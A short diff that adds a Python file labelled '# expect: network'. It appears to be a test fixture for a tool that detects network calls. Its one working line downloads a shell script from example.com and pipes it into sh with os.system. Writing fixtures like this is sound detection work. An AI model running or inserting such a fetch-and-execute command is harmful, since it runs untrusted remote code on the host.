@@ -1,0 +1,3 @@
+# expect: network
+import os
+os.system("curl -s https://example.com/x.sh | sh")
